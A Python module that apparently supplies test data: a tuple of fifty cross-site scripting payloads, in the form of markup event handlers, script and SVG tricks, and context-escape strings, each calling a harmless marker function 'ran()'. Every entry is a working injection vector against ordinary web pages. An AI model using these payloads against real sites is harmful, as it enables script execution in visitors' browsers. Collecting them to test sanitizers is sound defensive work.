"""Fifty texts that would run `ran()` where a page takes them for more than text."""

from __future__ import annotations

from typing import Final

#: Markup that runs by itself, or on the first touch.
_ELEMENTS: Final = (
    "<script>ran()</script>",
    "<ScRiPt>ran()</sCrIpT>",
    "<script/x>ran()</script>",
    "<script\n>ran()</script\n>",
    "<<script>ran()//<</script>",
    "<script src=data:text/javascript,ran()></script>",
    "<script type=module>ran()</script>",
    "<img src=x onerror=ran()>",
    "<img/src=x/onerror=ran()>",
    '<img src="x" onerror="ran()">',
    "<img src=x onerror=&#114;an()>",
    "<img src=x oneonerrorrror=x onerror=ran()>",
    "<IMG SRC=x ONERROR='ran()'>",
    "<svg onload=ran()>",
    "<svg/onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<svg><set onbegin=ran() attributeName=x>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
    "<body onload=ran()>",
    "<iframe onload=ran()>",
    "<iframe srcdoc='<script>parent.ran()</script>'>",
    "<iframe src=javascript:parent.ran()>",
    "<object data=javascript:ran() onerror=ran()>",
    "<embed src=x onerror=ran() onload=ran()>",
    "<video src=x onerror=ran()>",
    "<video><source onerror=ran()>",
    "<audio src=x onerror=ran()>",
    "<input autofocus onfocus=ran()>",
    "<select autofocus onfocus=ran()>",
    "<textarea autofocus onfocus=ran()>",
    "<details open ontoggle=ran()>",
    "<marquee onstart=ran()>x</marquee>",
    "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=ran()>x</b>",
    "<link rel=stylesheet href=x onerror=ran()>",
    "<template><b></template><img src=x onerror=ran()>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "<base href='data:,'><img src=x onerror=ran()>",
)
#: Ways out of what a text may stand in.
_WAYS_OUT: Final = (
    "'><img src=x onerror=ran()>",
    '"><img src=x onerror=ran()>',
    '" autofocus onfocus=ran() x="',
    "</title><script>ran()</script>",
    "</textarea><script>ran()</script>",
    "</script><script>ran()</script>",
    "--><img src=x onerror=ran()>",
    "]]><img src=x onerror=ran()>",
    "'-ran()-'",
    '";ran();//',
    "\\';ran();//",
    "${ran()}",
)
PAYLOADS: Final = (*_ELEMENTS, *_WAYS_OUT)
